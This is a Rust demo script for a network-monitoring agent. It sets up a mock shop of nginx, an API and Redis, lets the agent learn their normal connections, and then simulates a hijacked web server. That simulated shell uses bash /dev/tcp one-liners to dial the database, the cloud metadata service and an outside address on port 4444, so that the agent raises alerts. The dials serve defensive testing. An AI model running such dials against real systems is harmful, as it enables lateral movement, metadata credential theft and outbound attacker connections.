//! The play: the shop opens, is learned and guarded; then a shell in the web server's cgroup dials
//! three peers that the web server never had.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context as _, bail};

use crate::demo::cast::Cast;
use crate::house::{Agent, CUSTOMER, House, METADATA, STRANGER};
use crate::interrupt::{Interrupt, PAUSE};
use crate::workspace::Workspace;

const WAIT: Duration = Duration::from_secs(15);

/// The three dials of the hijacked web server: what is dialled, and what that is.
const HIJACK: &[(&str, &str)] = &[
    ("10.77.0.30/6379", "the database, past the API"),
    ("169.254.169.254/80", "the cloud's metadata service"),
    ("203.0.113.66/4444", "somebody's server, by its bare address"),
];

/// Plays it from the first dial to the last alert.
pub(crate) fn play(
    workspace: &Workspace,
    house: &House,
    cast: &Cast,
    interrupt: &Interrupt,
) -> anyhow::Result<()> {
    let program = workspace.target().join("release/edgewatch");
    let mut agent = Agent::new(&program, house, "agent", "mode = \"learn\"\nnode = \"demo\"\n")?;
    say("1", "The agent starts, with nothing learned");
    agent.start(interrupt)?;
    println!("{}", agent.text(&["status"])?);
    interrupt.pause()?;

    say("2", "A shop opens: nginx, an API and Redis, each in its own cgroup and namespace");
    open_shop(house, cast, interrupt)?;
    let customers = 40;
    println!("   {customers} customers come by, while the agent learns");
    visit(house, customers)?;
    interrupt.until("the shop's three edges", WAIT, PAUSE, || {
        interrupt.check()?;
        Ok(agent.text(&["map", "--format", "json"])?.matches("shop-").count() >= 5)
    })?;
    say("3", "What it learned: the map of who talks to whom");
    println!("{}", agent.text(&["map", "--color", "auto"])?);

    interrupt.pause()?;
    say("4", "The map is right, so the shop is guarded from now on");
    let services =
        ["systemd:shop-web.service", "systemd:shop-api.service", "systemd:shop-db.service"];
    println!("   $ edgewatch baseline guard {}", services.join(" "));
    println!("{}", agent.text(&[&["baseline", "guard"][..], &services[..]].concat())?);
    visit(house, 5)?;
    println!("   five more customers: nothing to say about them\n");

    interrupt.pause()?;
    say("5", "Hijacked: a shell in the web server's cgroup looks around");
    let mut told = 0;
    for (target, what) in HIJACK {
        interrupt.check()?;
        println!("   $ bash -c 'exec 3<>/dev/tcp/{target}'      # {what}");
        dial(house, target)?;
        interrupt.until("the alert", WAIT, PAUSE, || {
            let before = told;
            told = findings(&agent)?;
            Ok(told > before)
        })?;
    }
    interrupt.pause()?;
    say("6", "What the team reads in its chat");
    for id in alerts(&agent)? {
        println!("{}", agent.text(&["alerts", "show", &id, "--color", "auto"])?);
    }
    agent.end()
}

fn say(number: &str, what: &str) {
    println!("\n── {number}. {what}\n");
}

/// Starts the three services and the world, and waits until each answers.
fn open_shop(house: &House, cast: &Cast, interrupt: &Interrupt) -> anyhow::Result<()> {
    let redis = house.command("db", &cast.redis)?;
    let words = ["--bind", "10.77.0.30", "--protected-mode", "no", "--save", "", "--port", "6379"];
    house.start(with(redis, cast, &words), "redis.log")?;
    let perl = Path::new("/usr/bin/perl");
    let script = |text: &str| ["-e".to_owned(), text.to_owned()];
    let mut api = house.command("api", perl)?;
    api.args(script(include_str!("api.pl"))).args(["10.77.0.20:8080", "10.77.0.30:6379"]);
    house.start(api, "api.log")?;
    // Each waits for the one it needs: a dial that is refused is an edge, too.
    interrupt.until("Redis", WAIT, PAUSE, || listens(house, "db", 6379))?;
    interrupt.until("the API", WAIT, PAUSE, || listens(house, "api", 8080))?;
    let mut world = house.command("world", perl)?;
    world.args(script(include_str!("world.pl")));
    world.args([format!("{METADATA}:80"), format!("{STRANGER}:4444")]);
    house.start(world, "world.log")?;
    let configuration = nginx_configuration(house)?;
    let nginx = house.command("web", &cast.nginx)?;
    let words = ["-e", "stderr", "-c", &configuration.to_string_lossy()];
    house.start(with(nginx, cast, &words), "nginx.log")?;
    interrupt.until("the shop", WAIT, PAUSE, || Ok(visit(house, 1).is_ok()))
}

/// Whether somebody listens at `port` in a room: looked up, since a dial would be an edge.
fn listens(house: &House, room: &str, port: u16) -> anyhow::Result<bool> {
    let mut grep = house.command(room, Path::new("grep"))?;
    // Local address, remote address, state 0A: listening (Documentation/networking/proc_net_tcp).
    grep.args(["-q", &format!(":{port:04X} [0-9A-F:]* 0A "), "/proc/net/tcp"]);
    Ok(grep.status().context("start grep")?.success())
}

fn with(mut command: Command, cast: &Cast, words: &[&str]) -> Command {
    command.args(words);
    if let Some(libraries) = &cast.libraries {
        command.env("LD_LIBRARY_PATH", libraries);
    }
    command
}

fn nginx_configuration(house: &House) -> anyhow::Result<PathBuf> {
    let at = house.at.join("nginx");
    std::fs::create_dir_all(&at).with_context(|| format!("create {}", at.display()))?;
    let path = at.join("nginx.conf");
    let dir = at.display();
    let text = format!(
        "user root;\ndaemon off;\nworker_processes 1;\npid {dir}/pid;\nerror_log stderr;\n\
         events {{}}\nhttp {{\n  access_log off;\n  client_body_temp_path {dir}/body;\n  \
         proxy_temp_path {dir}/proxy;\n  fastcgi_temp_path {dir}/fastcgi;\n  \
         uwsgi_temp_path {dir}/uwsgi;\n  scgi_temp_path {dir}/scgi;\n  \
         server {{\n    listen 80;\n    location / {{ proxy_pass http://10.77.0.20:8080; }}\n  }}\n}}\n"
    );
    std::fs::write(&path, text).with_context(|| format!("write {}", path.display()))?;
    Ok(path)
}

/// Customers ask for a page each, from outside.
fn visit(house: &House, times: u32) -> anyhow::Result<()> {
    let mut customer = house.command("world", Path::new("/usr/bin/perl"))?;
    customer
        .args(["-e", include_str!("customer.pl"), CUSTOMER, "10.77.0.10:80", &times.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let status = customer.status().context("start a customer")?;
    if !status.success() {
        bail!("a customer was not served: see {}", house.at.join("nginx.log").display());
    }
    Ok(())
}

/// One dial of the hijacker: whether it is answered is not his to choose.
fn dial(house: &House, target: &str) -> anyhow::Result<()> {
    let mut shell = house.command("web", Path::new("/usr/bin/timeout"))?;
    shell
        .args([
            "2",
            "bash",
            "-c",
            &format!("exec 3<>/dev/tcp/{target}; echo PING >&3; head -c1 <&3"),
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    shell.status().context("start the hijacker's shell").map(drop)
}

fn alert_list(agent: &Agent) -> anyhow::Result<Vec<serde_json::Value>> {
    let text = agent.text(&["alerts", "--format", "json"])?;
    serde_json::from_str(&text).context("read the list of alerts")
}

/// The alerts' ids.
fn alerts(agent: &Agent) -> anyhow::Result<Vec<String>> {
    let alerts = alert_list(agent)?;
    Ok(alerts.iter().filter_map(|it| it["id"].as_str().map(str::to_owned)).collect())
}

/// How many edges the alerts are about.
fn findings(agent: &Agent) -> anyhow::Result<usize> {
    let alerts = alert_list(agent)?;
    let edges = alerts.iter().filter_map(|it| it["findings"].as_array()).flatten();
    let edges: BTreeSet<String> = edges.map(|it| it["edge"].to_string()).collect();
    Ok(edges.len())
}
